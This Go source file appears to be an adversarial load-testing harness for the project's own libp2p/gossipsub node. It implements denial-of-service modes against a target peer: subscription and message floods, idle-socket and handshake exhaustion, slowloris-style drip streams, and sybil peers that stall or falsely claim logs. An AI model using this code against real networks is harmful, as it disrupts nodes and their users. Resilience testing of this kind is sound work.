package main

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"io"
	"net"
	"sync/atomic"
	"time"

	"github.com/fxamacker/cbor/v2"
	pubsub "github.com/libp2p/go-libp2p-pubsub"
	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/network"
	libp2pprotocol "github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/core/sec"
	"github.com/libp2p/go-libp2p/core/transport"
	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
	"github.com/libp2p/go-libp2p/p2p/net/upgrader"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	"github.com/libp2p/go-libp2p/p2p/transport/tcp"
	ma "github.com/multiformats/go-multiaddr"
	manet "github.com/multiformats/go-multiaddr/net"
	"golang.org/x/sync/errgroup"
	"google.golang.org/protobuf/proto"

	"github.com/folkmoot/folkmoot/protocol"
	"github.com/folkmoot/folkmoot/protocol/vectors"
	"github.com/folkmoot/folkmoot/sharing/gossip"
)

// gossipStream is a stream of gossipsub that the attacker writes by hand.
func (s *siege) gossipStream(ctx context.Context) (p *offender, stream network.Stream, err error) {
	p, err = s.approach(ctx, func(p *offender, ctx context.Context) error {
		stream, err = p.host.NewStream(ctx, s.invite.Peers[0].ID, pubsub.GossipSubID_v12)
		return err
	})
	return p, stream, err
}

func send(w io.Writer, rpc *pb.RPC) error {
	b, err := proto.Marshal(rpc)
	if err != nil {
		return err
	}
	_, err = w.Write(framed(b))
	return err
}

// topics subscribes to ever new topics, a few at a time, which the node lets
// pass, and sometimes to a thousand at once.
func (s *siege) topics(ctx context.Context) error {
	for sent := 0; ctx.Err() == nil; {
		p, stream, err := s.gossipStream(ctx)
		if err != nil {
			if ctx.Err() != nil {
				return nil //nolint:nilerr // the siege is over
			}
			return err
		}
		for err == nil && ctx.Err() == nil && sent < s.count {
			rpc := new(pb.RPC)
			many := 16
			if sent%1600 == 0 {
				many = 1000
			}
			for range many {
				sent++
				rpc.Subscriptions = append(rpc.Subscriptions, &pb.RPC_SubOpts{
					Subscribe: proto.Bool(true), Topicid: proto.String(fmt.Sprintf("/folkmoot/%d/entries/1", sent)),
				})
			}
			err = send(stream, rpc)
		}
		if sent >= s.count {
			fmt.Println(sent, "topics were named")
			<-ctx.Done()
		}
		p.close()
	}
	return nil
}

// sendMessages sends messages at a rate until ctx ends, over a few peers that are
// replaced when the node sends them away.
func (s *siege) sendMessages(ctx context.Context, message func(int) []byte) error {
	group, ctx := errgroup.WithContext(ctx)
	const peers = 4
	var sent atomic.Int64
	defer func() { fmt.Println(sent.Load(), "messages were sent") }()
	topic := gossip.Topic(s.invite.Network)
	for n := range peers {
		group.Go(func() error {
			tick := time.NewTicker(10 * time.Millisecond)
			defer tick.Stop()
			for i := n; ctx.Err() == nil; {
				p, stream, err := s.gossipStream(ctx)
				for start, own := time.Now(), 0; err == nil && ctx.Err() == nil; {
					rpc := new(pb.RPC)
					due := int(time.Since(start).Seconds()*float64(s.count)/peers) - own
					for range min(due, 64) {
						own++
						rpc.Publish = append(rpc.Publish, &pb.Message{Data: message(i), Topic: proto.String(topic)})
						i += peers
					}
					if err = send(stream, rpc); err == nil {
						sent.Add(int64(len(rpc.Publish)))
					}
					<-tick.C
				}
				if p != nil {
					p.close()
				}
				<-tick.C
			}
			return nil
		})
	}
	return group.Wait()
}

// orphans are sound entries of bodies that nobody knows: no reason to blame who
// passes them on.
func (s *siege) orphans(ctx context.Context) error {
	author := vectors.NewAuthor("orphans", 0, nil)
	author.PublishN(1, 600)
	return s.sendMessages(ctx, func(i int) []byte {
		env := author.Log[1].Envelope
		env.Body = protocol.BodyID(protocol.HashOf(fmt.Append(nil, "orphan ", i)))
		e, err := protocol.SignEntry(author.Key, &env, author.Log[1].Content)
		if err != nil {
			panic(err)
		}
		return e.Encode()
	})
}

// strangers are sound beginnings of logs: everybody can found as many bodies as he
// likes.
func (s *siege) strangers(ctx context.Context) error {
	run := time.Now()
	return s.sendMessages(ctx, func(i int) []byte {
		key := vectors.Secret(fmt.Sprint("stranger ", run, i))
		recovery := protocol.RecoveryDigest(key.Public())
		recovery[len(recovery)-1] ^= 1
		act, err := protocol.EncodeControl(protocol.KindCharter, &protocol.Control{
			Key: key.Public(), Recovery: []protocol.Digest{recovery, protocol.HashOf(recovery[:])}, Network: s.invite.Network,
		})
		if err != nil {
			panic(err)
		}
		env := new(protocol.Chain).Next(protocol.KindCharter, uint64(run.Unix())) //nolint:gosec // a date of this age
		env.Act = act
		e, err := protocol.SignEntry(key, env, nil)
		if err != nil {
			panic(err)
		}
		return e.Encode()
	})
}

// rubbish is no entry at all.
func (s *siege) rubbish(ctx context.Context) error {
	return s.sendMessages(ctx, func(int) []byte {
		b := make([]byte, 600)
		_, _ = rand.Read(b) // does not fail
		return b
	})
}

// sockets opens connections and says nothing on them.
func (s *siege) sockets(ctx context.Context) error {
	at, err := s.overTCP()
	if err != nil {
		return err
	}
	addr, err := manet.ToNetAddr(at)
	if err != nil {
		return err
	}
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			_ = c.Close()
		}
	}()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for n := 0; ; n++ {
		if n < s.count {
			c, err := new(net.Dialer).DialContext(ctx, "tcp", addr.String())
			if err == nil {
				conns = append(conns, c)
			}
			if n%20 != 19 {
				continue
			}
		}
		select {
		case <-ctx.Done():
			fmt.Println(len(conns), "connections were opened")
			return nil
		case <-tick.C:
		}
	}
}

// overTCP is the address of the victim that is TCP.
func (s *siege) overTCP() (ma.Multiaddr, error) {
	for _, a := range s.invite.Peers[0].Addrs {
		if _, err := a.ValueForProtocol(ma.P_TCP); err == nil {
			return a, nil
		}
	}
	return nil, errors.New("the node has no address over TCP")
}

// crowd are peers, each with a key of its own, that shake hands and stay, and
// answer nothing that the node asks.
func (s *siege) crowd(ctx context.Context) error {
	addr, err := s.overTCP()
	if err != nil {
		return err
	}
	var shaken, refused atomic.Int64
	defer func() { fmt.Println(shaken.Load(), "peers shook hands,", refused.Load(), "times it was refused") }()
	group, ctx := errgroup.WithContext(ctx)
	for range s.count {
		group.Go(func() error {
			for ctx.Err() == nil {
				conn, err := s.shakeHands(ctx, addr)
				if err == nil {
					shaken.Add(1)
					for stream, err := conn.AcceptStream(); err == nil; stream, err = conn.AcceptStream() {
						defer stream.Reset() //nolint:errcheck // it is held open for as long as the node keeps the connection
					}
				} else {
					refused.Add(1)
				}
				select {
				case <-ctx.Done():
				case <-time.After(time.Second):
				}
			}
			return nil
		})
	}
	return group.Wait()
}

// shakeHands connects as a new peer, until ctx ends.
func (s *siege) shakeHands(ctx context.Context, addr ma.Multiaddr) (transport.CapableConn, error) {
	key, _, err := crypto.GenerateEd25519Key(rand.Reader)
	if err != nil {
		return nil, err
	}
	muxers := []upgrader.StreamMuxer{{ID: yamux.ID, Muxer: yamux.DefaultTransport}}
	security, err := noise.New(noise.ID, key, muxers)
	if err != nil {
		return nil, err
	}
	up, err := upgrader.New([]sec.SecureTransport{security}, muxers, nil, nil, nil)
	if err != nil {
		return nil, err
	}
	dialer, err := tcp.NewTCPTransport(up, nil, nil)
	if err != nil {
		return nil, err
	}
	conn, err := dialer.Dial(ctx, addr, s.invite.Peers[0].ID)
	if err == nil {
		context.AfterFunc(ctx, func() { _ = conn.Close() })
	}
	return conn, err
}

// each keeps peers at work, and replaces those that are sent away.
func (s *siege) each(ctx context.Context, prepare, work func(context.Context, int, *offender)) error {
	group, ctx := errgroup.WithContext(ctx)
	for n := range s.count {
		group.Go(func() error {
			for ctx.Err() == nil {
				p, err := s.connect(ctx, func(p *offender) { prepare(ctx, n, p) })
				if err == nil {
					work(ctx, n, p)
					p.close()
				}
				select {
				case <-ctx.Done():
				case <-time.After(200 * time.Millisecond):
				}
			}
			return nil
		})
	}
	return group.Wait()
}

// loris opens streams to greet and to reconcile; half of the peers send a byte a
// second of a long frame, and half nothing at all.
func (s *siege) loris(ctx context.Context) error {
	prepare := func(context.Context, int, *offender) {}
	return s.each(ctx, prepare, func(ctx context.Context, n int, p *offender) {
		var group errgroup.Group
		for _, id := range []libp2pprotocol.ID{helloID(p.network), reconcileID(p.network)} {
			group.Go(func() error {
				for ctx.Err() == nil {
					stream, err := p.host.NewStream(ctx, s.invite.Peers[0].ID, id)
					if err != nil {
						return err
					}
					if n%2 == 0 {
						drip(ctx, stream)
					} else if _, err := stream.Write(nil); err == nil { // opens the stream
						_, _ = io.Copy(io.Discard, stream) // until the node gives up
					}
					_ = stream.Reset() // it was given up
				}
				return nil
			})
		}
		_ = group.Wait() // the node sent the peer away
	})
}

// sybils introduce themselves as any peer does. When the node asks them for what
// they have, half never answer, and half name logs of which nothing comes.
func (s *siege) sybils(ctx context.Context) error {
	return s.each(ctx, func(ctx context.Context, n int, p *offender) {
		p.host.SetStreamHandler(reconcileID(p.network), func(stream network.Stream) {
			if n%2 == 0 {
				<-ctx.Done()
			} else if _, err := stream.Write(promises(p.network, n)); err == nil {
				_, _ = io.Copy(io.Discard, stream)
			}
			_ = stream.Reset() // its work is done
		})
	}, func(ctx context.Context, _ int, p *offender) {
		target := s.invite.Peers[0].ID
		tick := time.NewTicker(100 * time.Millisecond)
		defer tick.Stop()
		for p.host.Network().Connectedness(target) == network.Connected {
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
			}
		}
	})
}

// promises is the answer of a peer that claims a log and sends none of it.
func promises(name string, n int) []byte {
	var out []byte
	frame := func(kind byte, message any) {
		b := []byte{kind}
		if message != nil {
			more, err := cbor.Marshal(message)
			if err != nil {
				panic(err)
			}
			b = append(b, more...)
		}
		out = append(out, framed(b)...)
	}
	body, root := protocol.HashOf(fmt.Append(nil, "claim ", n, time.Now())), protocol.HashOf([]byte("a root"))
	all := []any{1000, make([]byte, 16)}
	frame('h', []any{1, name, all, all, []byte{}, []byte{}})
	frame('B', []any{[]any{body[:], 100, root[:], 0, 0, 0}, 0, false})
	out = append(out, framed([]byte{'X', 0})...)
	frame('Z', nil)
	return out
}

func reconcileID(network string) libp2pprotocol.ID {
	return libp2pprotocol.ID("/folkmoot/" + network + "/reconcile/1")
}
